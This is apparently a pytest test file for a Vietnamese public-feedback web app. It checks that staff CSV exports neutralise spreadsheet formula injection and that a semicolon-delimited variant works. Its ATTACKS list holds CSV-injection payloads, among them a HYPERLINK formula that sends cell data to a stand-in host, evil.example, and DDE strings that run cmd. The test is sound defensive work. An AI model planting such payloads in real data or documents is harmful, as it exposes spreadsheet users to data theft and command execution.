"""CSV exports a spreadsheet opens safely: formulas a citizen wrote stay text; a
semicolon-separated variant for Excel with Vietnamese regional settings."""

from __future__ import annotations

import csv
import io

import pytest

from feedback.models import Conversation, UnansweredQuestion
from feedback.tickets import create_feedback
from tests.test_staff_web import Browser, make_user

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Xem hồ sơ")',
    "+cmd|' /C calc'!A0 gửi cán bộ",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1 ở đầu có dấu tab",
    "\r=1+1 ở đầu có dấu xuống dòng",
]


def _rows(body: str, delimiter: str = ",") -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.lstrip("\ufeff")), delimiter=delimiter))


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
async def admin(rig):
    make_user(rig, "admin", "admin")
    browser = Browser(rig)
    await browser.login("admin")
    yield browser
    await browser.close()


async def test_formulas_written_by_citizens_export_as_text(rig, admin):
    with rig.runtime.store.session() as session:
        for i, attack in enumerate(ATTACKS):
            create_feedback(
                session,
                channel="zalo",
                user_id=f"z-{i}",
                category="complaint",
                content=attack,
                contact_name=attack[:100],
            )
    status, body, _ = await admin.get("/staff/feedback.csv")
    assert status == 200
    rows = _rows(body)
    assert len(rows) == len(ATTACKS)
    for row in rows:
        for column in ("Nội dung", "Họ tên"):
            assert not _dangerous(row[column]), row[column]
    assert sorted(r["Nội dung"].removeprefix("'") for r in rows) == sorted(
        a.replace("|", "\\|") if a[0] in "=+-@" else a for a in ATTACKS
    )


async def test_unanswered_questions_export_neutralises_formulas(rig, admin):
    with rig.runtime.store.session() as session:
        conversation = Conversation(channel="web", user_id="b" * 32)
        session.add(conversation)
        session.flush()
        for attack in ATTACKS:
            session.add(UnansweredQuestion(conversation_id=conversation.id, text=attack))
    status, body, _ = await admin.get("/staff/export/unanswered.csv")
    assert status == 200
    questions = [r["Câu hỏi"] for r in _rows(body)]
    assert len(questions) == len(ATTACKS)
    assert not any(_dangerous(q) for q in questions)


async def test_every_export_comes_semicolon_separated_on_request(rig, admin):
    with rig.runtime.store.session() as session:
        create_feedback(
            session,
            channel="web",
            user_id="c" * 32,
            category="recommendation",
            content="Đề nghị mở thêm quầy; buổi trưa đông người",
        )
    status, body, _ = await admin.get("/staff/feedback.csv?sep=semicolon")
    assert status == 200
    header = body.lstrip("\ufeff").splitlines()[0]
    assert header.startswith("Mã;Ngày gửi;Kênh;")
    (row,) = _rows(body, ";")
    assert row["Nội dung"] == "Đề nghị mở thêm quầy; buổi trưa đông người"
    for name in ("daily", "procedures", "unanswered", "ratings"):
        status, body, _ = await admin.get(f"/staff/export/{name}.csv?sep=semicolon")
        assert status == 200 and ";" in body.lstrip("\ufeff").splitlines()[0]
    assert (await admin.get("/staff/feedback.csv?sep=tab"))[0] == 400
    _, page, _ = await admin.get("/staff/feedback")
    assert "sep=semicolon" in page
